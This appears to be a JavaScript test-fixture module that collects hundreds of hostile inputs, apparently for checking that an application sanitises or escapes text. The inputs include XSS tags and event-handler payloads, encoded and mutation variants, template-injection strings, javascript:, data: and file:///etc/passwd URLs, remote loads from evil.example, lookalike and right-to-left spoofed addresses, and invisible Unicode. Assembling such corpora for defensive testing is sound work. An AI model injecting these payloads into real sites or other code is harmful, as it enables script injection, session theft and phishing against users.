// Texts that try to be more than text: markup, scripts, addresses, half characters, and characters that nobody sees. `xss` is a trap.

const TAGS = [
  '<script>xss()</script>', '<SCRIPT>xss()</SCRIPT>', '<scr<script>ipt>xss()</scr</script>ipt>', '<script src=//evil.example/x.js></script>',
  '<script\u000cx>xss()</script>', '<script/x>xss()</script\n>', '</script><script>xss()</script>', '<script type=module>xss()</script>', '<script>xss`1`</script>',
  '<img src=x onerror=xss()>', '<img src=x onerror="xss()">', "<img src=x onerror='xss()'>", '<img src=x onerror=xss`1`>', '<IMG SRC=x OnErRoR=xss()>', '<img/src/onerror=xss()>',
  '<img src=x:x onerror=xss()//', '<image src=x onerror=xss()>', '<img srcset=x onerror=xss()>', '<img src=1 href=1 onerror="javascript:xss()">', '<img lowsrc="javascript:xss()">',
  '<svg onload=xss()>', '<svg/onload=xss()>', '<svg><script>xss()</script></svg>', '<svg><script href="data:text/javascript,xss()"/></svg>', '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:xss()>', '<svg><a xlink:href="javascript:xss()"><text x=20 y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"/>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></foreignObject></svg>', '<svg><style><img src=x onerror=xss()></style></svg>', '<svg><desc><img src=x onerror=xss()></desc></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()>', '<math href="javascript:xss()">x</math>', '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:xss()">x',
  '<iframe src="javascript:xss()"></iframe>', '<iframe srcdoc="<script>parent.xss()</script>"></iframe>', '<iframe onload=xss()></iframe>', '<frameset onload=xss()>', '<frame src="javascript:xss()">',
  '<object data="javascript:xss()"></object>', '<object data="data:text/html,<script>parent.xss()</script>"></object>', '<embed src="javascript:xss()">', '<applet code="x"></applet>',
  '<a href="javascript:xss()">press</a>', '<a href=javascript:xss() autofocus onfocus=xss()>x</a>', '<area href="javascript:xss()">', '<base href="javascript:/xss()//">', '<base href="//evil.example/">',
  '<form action="javascript:xss()"><button>x</button></form>', '<form><button formaction="javascript:xss()">x</button></form>', '<isindex action="javascript:xss()">', '<input autofocus onfocus=xss()>',
  '<select autofocus onfocus=xss()>', '<textarea autofocus onfocus=xss()>', '<keygen autofocus onfocus=xss()>', '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=xss()>',
  '<video src=x onerror=xss()>', '<video><source onerror=xss()></video>', '<audio src=x onerror=xss()>', '<video poster="javascript:xss()">', '<track src=x onerror=xss()>',
  '<details open ontoggle=xss()>', '<dialog open onclose=xss()>', '<marquee onstart=xss()>', '<meta http-equiv=refresh content="0;url=javascript:xss()">', '<meta http-equiv="Content-Security-Policy" content="">',
  '<link rel=stylesheet href="javascript:xss()">', '<link rel=import href=x onerror=xss()>', '<link rel=prefetch href="//evil.example/">', '<style>@import "//evil.example/x.css"</style>', '<style onload=xss()></style>',
  '<div style="background:url(javascript:xss())">', '<div style="width:expression(xss())">', '<div style="-moz-binding:url(//evil.example/x)">', '<p style=animation-name:x onanimationstart=xss()>',
  '<template><script>xss()</script></template>', '<template shadowrootmode=open><script>xss()</script></template>', '<slot onslotchange=xss()>', '<portal src="javascript:xss()">', '<x contenteditable onblur=xss()>x',
  '<body onload=xss()>', '<html onmouseover=xss()>', '<head><script>xss()</script></head>', '<plaintext><script>xss()</script>', '<xmp><script>xss()</script></xmp>', '<noscript><img src=x onerror=xss()></noscript>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">', '<!--<img src="--><img src=x onerror=xss()>">', '<![CDATA[<script>xss()</script>]]>', '<?xml version="1.0"?><script>xss()</script>', '<!doctype html><script>xss()</script>',
  '<title><img src=x onerror=xss()></title>', '<earshot-widget config="{}"></earshot-widget>', '<usermedia type="microphone"></usermedia>', '<p is="x-y">x</p>', '<b>bold</b> & <i>italic</i>', '<u><', '<', '>', '"', "'", '`', '&', '</',
  '</p></div></body></html>', '" onmouseover="xss()', "' onmouseover='xss()", '`onmouseover=xss()', '"><script>xss()</script>', "'><script>xss()</script>", '"/><svg onload=xss()>', '--><script>xss()</script>', '*/xss()/*', '\\";xss();//', '</textarea><script>xss()</script>', '</title><script>xss()</script>', '</style><script>xss()</script>',
];

const ENCODED = [
  '&lt;script&gt;xss()&lt;/script&gt;', '&#60;script&#62;xss()&#60;/script&#62;', '&#x3c;img src=x onerror=xss()&#x3e;', '%3Cscript%3Exss()%3C/script%3E', '\\u003cscript\\u003exss()\\u003c/script\\u003e', '\\x3cscript\\x3exss()', '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  '\u00bcscript\u00bexss()\u00bc/script\u00be', '\uff1cscript\uff1exss()\uff1c/script\uff1e', '\u2039script\u203axss()', '<\u0000script>xss()</script>', '<img src=x onerror\u0000=xss()>', '<img\u0009src=x\u0009onerror=xss()>', '<img\u000bsrc=x onerror=xss()>', '<scri\u00adpt>xss()</script>',
];

const TEMPLATES = [
  '{{constructor.constructor("xss()")()}}', '${xss()}', '#{xss()}', '<%= xss() %>', '{{7*7}}', '{% raw %}', '{count}', '{host} {browser} {device} {company} {address}', '{{{x}}}', '[[${xss()}]]', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', '[object Object]', '$&', "$`$'$1", '%s%n%x', '${{<%[%\'"}}%\\.', 'eval("xss()")', 'setTimeout("xss()")', 'xss()',
];

const ADDRESSES = [
  'javascript:xss()', 'JaVaScRiPt:xss()', ' javascript:xss()', 'java\tscript:xss()', 'java\nscript:xss()', '\u0001javascript:xss()', 'javascript&colon;xss()', 'javascript&#58;xss()', 'javascript\u200b:xss()', 'javascript://example.com/%0axss()', 'javascript://https://example.com/%0axss()',
  'data:text/html,<script>xss()</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'blob:https://example.com/1', 'filesystem:https://example.com/1', 'view-source:https://example.com', 'about:blank', 'chrome://settings', 'ms-settings:privacy', 'intent://x#Intent;scheme=https;end', 'ftp://example.com', 'ws://example.com', 'sms:+491234', 'feed:javascript:xss()', 'jar:javascript:xss()!/', 'mhtml:javascript:xss()',
  'https://example.com/"onmouseover="xss()', "https://example.com/'onmouseover='xss()", 'https://example.com/<script>xss()</script>', 'https://example.com/`x`', 'https://example.com/#javascript:xss()', 'https://example.com@evil.example/', 'https://user:pass@evil.example/', 'https://example.com%40evil.example/', 'https://exаmple.com/', 'https://example.com\\@evil.example', 'https:///evil.example', 'https://', 'https://[', 'https://%', 'https://example.com:99999/',
  'https://example.com/\u202egpj.exe', 'https://example\u200b.com/', 'https://example.com/\u2066x\u2069', 'https://\u202eelpmaxe.com', 'mailto:a@example.com?subject=<script>xss()</script>', 'mailto:javascript:xss()', 'mailto:', 'tel:+49 30 1', 'tel:javascript:xss()', 'tel:*#06#', 'http://localhost:1/', 'HTTPS://EXAMPLE.COM/', '//evil.example/', '/\\evil.example', '[press](javascript:xss())', '![x](x"onerror="xss())', '<https://example.com/>', '(https://example.com/a_(b))',
];

const UNSEEN = [
  '\u202eright to left\u202c', '\u202dleft to right\u202c', '\u202e\u202e\u202enever closed', '\u202c\u202c\u202c', '\u2067isolate\u2069', '\u2066\u2067\u2068never closed', '\u2069\u2069', '\u200e\u200f\u061c', 'ana\u202enimda', 'a\u200bb\u200cc\u200dd\ufeffe', '\u200b', '\u200b\u200b\u200b', '\ufeff', '\u00ad\u00ad', '\u2060\u2061\u2062\u2063\u2064', '\u180e', '\u3164', '\u115f\u1160', '\u2800', '\u00a0', '\u034f',
  '<\u200bscript>xss()</script>', '<scr\u202eipt>xss()</script>', 'java\u200bscript:xss()', '\u202eptircs:avaj', 'Z\u0335\u0321\u0322\u0327\u0328\u031b\u0300\u0301\u0302\u0303\u0304\u0305\u0306a\u0335l\u0336g\u0337o\u0338', 'e\u0301'.repeat(50), '\u0489'.repeat(60), '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67', '\ud83c\uddff\ud83c\uddff', '\ud800', '\udc00', 'a\ud83d', '\ufffe\uffff', '\u0000', '\u0007\u001b[31mred', '\u2028xss()\u2029', '\u0085', '\ufffd', '\udb40\udc41\udb40\udc42', '\ue000', 'שלום <b>עולם</b>', 'مرحبا <img src=x onerror=xss()>', '你好<script>xss()</script>', 'नमस्ते', '\ufdfd'.repeat(20), '𝓍𝓈𝓈()', 'ＸＳＳ（）', 'a'.repeat(300), 'W'.repeat(200), '\n\n\n', '\r\n\t', '\t<script>\txss()\t</script>',
];

const EVENTS = ['onclick', 'onfocus', 'onload', 'onpointerover', 'onwheel', 'ontransitionend', 'oncopy', 'oncut', 'onpaste', 'onscroll', 'onscrollend', 'onsearch', 'oninvalid', 'onsubmit', 'onreset', 'oncanplay', 'ontimeupdate', 'onhashchange', 'onmessage', 'onstorage', 'onpageshow', 'onresize', 'onunhandledrejection', 'onauxclick', 'oncontentvisibilityautostatechange'];

/** All of them, each once. */
export const HOSTILE = [...new Set([...TAGS, ...ENCODED, ...TEMPLATES, ...ADDRESSES, ...UNSEEN, ...EVENTS.map((event) => `<p tabindex=0 autofocus ${event}=xss()>x</p>`)])];
